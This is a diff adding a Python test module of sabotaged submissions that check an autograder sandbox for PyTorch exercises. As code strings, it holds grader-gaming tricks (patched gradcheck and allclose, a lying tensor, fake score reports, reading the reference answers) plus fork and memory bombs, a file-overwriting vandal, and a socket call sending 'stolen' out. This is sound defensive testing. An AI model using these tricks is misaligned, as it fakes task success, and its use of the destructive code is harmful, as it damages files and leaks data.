@@ -1,0 +1,199 @@
+"""Hostile submissions: one per threat, each a copy of ``reference/`` with the sabotage written in.
+
+Each case names the checks it runs (to keep the suite fast), the verdict expected of every one of
+them, and the check(s) it sabotages (which must get no credit). ``levels`` restricts a case to the
+sandbox levels that defend against it (reading the grader's files is only prevented by bwrap and
+unshare); the others run at every level. docs/security.md lists the threats and their defences.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+MSE_FORWARD = "        ctx.save_for_backward(yhat, y)\n        q = yhat.shape[0]\n"
+MSE_BACKWARD = "        yhat, y = ctx.saved_tensors\n        q = yhat.shape[0]\n"
+MSE_RETURN = "        return grad_yhat, -grad_yhat\n"
+LINEAR_FORWARD = "        ctx.save_for_backward(X, W, b)\n        return X @ W + b\n"
+HEAD = '"""AMAL'
+MSE_CHECKS = ("load", "mse.forward", "mse.backward", "mse.gradcheck")
+LINEAR_CHECKS = ("linear.forward", "linear.backward")
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    threat: str
+    edits: dict
+    expected: dict[str, str | tuple[str, ...]]  # check id -> status (or any of several)
+    sabotaged: tuple[str, ...]  # no credit for these
+    levels: tuple[str, ...] = ("bwrap", "unshare", "none")
+    extra_files: dict[str, str] = field(default_factory=dict)
+
+
+def _in(anchor: str, code: str, after: bool = True) -> tuple[str, str]:
+    return (anchor, anchor + code if after else code + anchor)
+
+
+WRONG_BACKWARD = (MSE_RETURN, "        return 3 * grad_yhat, grad_yhat\n")
+PASS_LINEAR = {c: "passed" for c in LINEAR_CHECKS}
+FAILED_OR_ERROR = ("failed", "error")
+
+CASES = [
+    Case("exit_at_import", "sys.exit(0) while importing",
+         {"tp1": [_in(HEAD, "import sys; sys.exit(0)\n", after=False)]},
+         {"load": FAILED_OR_ERROR, "mse.forward": "skipped"}, ("load", "mse.forward")),
+    Case("os_exit_at_import", "os._exit(0) while importing",
+         {"tp1": [_in(HEAD, "import os; os._exit(0)\n", after=False)]},
+         {"load": FAILED_OR_ERROR, "mse.forward": "skipped"}, ("load", "mse.forward")),
+    Case("systemexit_in_backward", "SystemExit raised inside backward",
+         {"tp1": [_in(MSE_BACKWARD, "        raise SystemExit(0)\n")]},
+         {"load": "passed", "mse.forward": "passed", "mse.backward": "error", "mse.gradcheck": "error",
+          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
+    Case("infinite_loop_in_backward", "an infinite loop in backward",
+         {"tp1": [_in(MSE_BACKWARD, "        while True:\n            pass\n")]},
+         {"load": "passed", "mse.forward": "passed", "mse.backward": "timeout", **PASS_LINEAR},
+         ("mse.backward",)),
+    Case("sleep_ignoring_signals", "a sleep with SIGTERM, SIGINT and SIGALRM ignored",
+         {"tp1": [_in(MSE_BACKWARD, "        import signal, time\n"
+                                    "        for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT):\n"
+                                    "            signal.signal(s, signal.SIG_IGN)\n"
+                                    "        time.sleep(10_000)\n")]},
+         {"load": "passed", "mse.forward": "passed", "mse.backward": "timeout", **PASS_LINEAR},
+         ("mse.backward",)),
+    Case("memory_bomb_in_forward", "allocating without bound in forward",
+         {"tp1": [_in(MSE_FORWARD, "        hog = []\n        while True:\n"
+                                   "            hog.append(bytearray(256 * 1024 * 1024))\n")]},
+         {"load": "passed", "mse.forward": ("error", "timeout"), **PASS_LINEAR}, ("mse.forward",)),
+    Case("segfault_in_forward", "a segmentation fault (ctypes.string_at(0)) in forward",
+         {"tp1": [_in(MSE_FORWARD, "        import ctypes; ctypes.string_at(0)\n")]},
+         {"load": "passed", "mse.forward": "error", **PASS_LINEAR}, ("mse.forward",)),
+    Case("fork_burst", "a burst of forked children, some escaping with setsid, left running",
+         {"tp1": [_in(MSE_FORWARD,
+                      "        import os, time\n"
+                      "        for i in range(40):\n"
+                      "            try:\n"
+                      "                pid = os.fork()\n"
+                      "            except OSError:\n"
+                      "                break\n"
+                      "            if pid == 0:\n"
+                      "                if i % 2:\n"
+                      "                    os.setsid()\n"
+                      "                time.sleep(10_000)\n"
+                      "                os._exit(0)\n"
+                      "        return torch.zeros(())\n")]},
+         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",),
+         levels=("bwrap", "unshare")),  # at "none", a child that called setsid outlives the kill (docs/security.md)
+    Case("output_flood", "floods stdout and stderr with fake 'passed' lines and fake JSON reports",
+         {"tp1": [_in(MSE_FORWARD,
+                      "        import json, sys\n"
+                      "        fake = json.dumps({'score': 20, 'max_score': 20, 'checks': [{'id': 'mse.forward',"
+                      " 'status': 'passed'}]})\n"
+                      "        for _ in range(20000):\n"
+                      "            print('mse.forward passed 2/2 ✓ Score 20 / 20', fake)\n"
+                      "            print('PASSED', fake, file=sys.stderr)\n"
+                      "        return torch.zeros(())\n")]},
+         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",)),
+    Case("output_past_the_cap", "writes more output than the file-size cap",
+         {"tp1": [_in(MSE_FORWARD, "        import sys\n        line = 'x' * (1 << 20)\n"
+                                   "        for _ in range(200):\n            print(line)\n")]},
+         {"load": "passed", "mse.forward": ("error", "failed"), **PASS_LINEAR}, ("mse.forward",)),
+    Case("patched_comparisons", "patches gradcheck, allclose, assert_close, numpy.allclose, with a wrong backward",
+         {"tp1": [_in(HEAD, "import numpy, torch, torch.testing, torch.autograd\n"
+                            "torch.autograd.gradcheck = lambda *a, **k: True\n"
+                            "torch.autograd.gradcheck.gradcheck = lambda *a, **k: True\n"
+                            "torch.allclose = lambda *a, **k: True\n"
+                            "torch.equal = lambda *a, **k: True\n"
+                            "torch.testing.assert_close = lambda *a, **k: None\n"
+                            "numpy.allclose = lambda *a, **k: True\n"
+                            "torch.Tensor.__eq__ = lambda *a, **k: True\n", after=False),
+                  WRONG_BACKWARD]},
+         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", "mse.gradcheck": "failed",
+          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
+    Case("lying_tensor", "a tensor subclass whose __eq__, allclose and equal always say yes, from a wrong backward",
+         {"tp1": [_in(HEAD, "import torch\n"
+                            "class Liar(torch.Tensor):\n"
+                            "    def __eq__(self, other): return True\n"
+                            "    def allclose(self, *a, **k): return True\n"
+                            "    def equal(self, *a, **k): return True\n"
+                            "    def __bool__(self): return True\n", after=False),
+                  (MSE_RETURN, "        return (3 * grad_yhat).as_subclass(Liar), grad_yhat.as_subclass(Liar)\n")]},
+         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", "mse.gradcheck": "failed",
+          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
+    Case("vandal", "deletes and overwrites files in its folder and every JSON file it can find",
+         {"tp1": [_in(HEAD,
+                      "import glob, json, os\n"
+                      "def _vandalise():\n"
+                      "    fake = json.dumps({'score': 20, 'max_score': 20})\n"
+                      "    for pattern in ('/tmp/**/*.json', '/root/**/*.json', '/work/**/*.json', '../**/*.json',"
+                      " os.path.expanduser('~/**/*.json'), '**/*.json'):\n"
+                      "        for path in glob.glob(pattern, recursive=True)[:500]:\n"
+                      "            try:\n"
+                      "                open(path, 'w').write(fake)\n"
+                      "            except OSError:\n"
+                      "                pass\n"
+                      "    for name in os.listdir('.'):\n"
+                      "        if name.endswith(('.txt', '.md', '.json')):\n"
+                      "            os.remove(name)\n"
+                      "    open('tp1_descente.py', 'a').write('\\nraise SystemExit(1)\\n')\n"
+                      "    open('report.json', 'w').write(fake)\n"
+                      "_vandalise()\n", after=False)]},
+         {"load": "failed", "mse.forward": "passed", **PASS_LINEAR}, ("load",), levels=("bwrap",),
+         extra_files={"notes.txt": "my notes\n", "results.json": '{"mine": true}\n'}),
+    Case("shadowing_modules", "ships torch.py, numpy.py, sitecustomize.py and conftest.py that sabotage",
+         {}, {"load": "passed", "mse.forward": "passed", "mse.backward": "passed", **PASS_LINEAR}, (),
+         extra_files={"torch.py": "raise SystemExit('shadowed torch')\n",
+                      "numpy.py": "raise SystemExit('shadowed numpy')\n",
+                      "sitecustomize.py": "import os\nos._exit(7)\n",
+                      "usercustomize.py": "import os\nos._exit(7)\n",
+                      "conftest.py": "import os\nos._exit(7)\n"}),
+    Case("reads_the_reference", "reads the reference solution or the grader's formulas from its installation",
+         {"tp1": [_in(HEAD,
+                      "import os, sys\n"
+                      "def _steal():\n"
+                      "    try:\n"
+                      "        import grader.checks.expected as e\n"
+                      "        return e\n"
+                      "    except Exception:\n"
+                      "        pass\n"
+                      "    here = os.path.abspath(sys.executable)\n"
+                      "    while here != os.path.dirname(here):\n"
+                      "        here = os.path.dirname(here)\n"
+                      "        for rel in ('reference/tp1.py', 'grader/checks/expected.py', 'tests/conftest.py'):\n"
+                      "            try:\n"
+                      "                return open(os.path.join(here, rel)).read()\n"
+                      "            except OSError:\n"
+                      "                pass\n"
+                      "    return None\n"
+                      "_STOLEN = _steal()\n", after=False),
+                  (MSE_FORWARD, MSE_FORWARD + "        if _STOLEN is None:\n            return torch.zeros(())\n")]},
+         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare")),
+    Case("network", "opens network connections (a server of the test and the internet)",
+         {"tp1": [_in(HEAD,
+                      "import os, socket\n"
+                      "def _call_home():\n"
+                      "    port = int(open(os.path.join(os.path.dirname(__file__), 'port.txt')).read())\n"
+                      "    for host in ('127.0.0.1', '1.1.1.1'):\n"
+                      "        try:\n"
+                      "            s = socket.create_connection((host, port if host == '127.0.0.1' else 80), timeout=2)\n"
+                      "            s.sendall(b'stolen')\n"
+                      "            s.close()\n"
+                      "            return True\n"
+                      "        except OSError:\n"
+                      "            pass\n"
+                      "    return False\n"
+                      "_ONLINE = _call_home()\n", after=False),
+                  (MSE_FORWARD, MSE_FORWARD + "        if not _ONLINE:\n            return torch.zeros(())\n")]},
+         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare")),
+    Case("late_fixing_thread", "a background thread that fixes wrong gradients after backward returns",
+         {"tp1": [(MSE_RETURN,
+                   "        import threading, time\n"
+                   "        wrong = 3 * grad_yhat.detach().clone()\n"
+                   "        right = grad_yhat.detach().clone()\n"
+                   "        def fix():\n"
+                   "            time.sleep(0.05)\n"
+                   "            wrong.copy_(right)\n"
+                   "        threading.Thread(target=fix, daemon=True).start()\n"
+                   "        return wrong, -right\n")]},
+         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", **PASS_LINEAR},
+         ("mse.backward",)),
+]
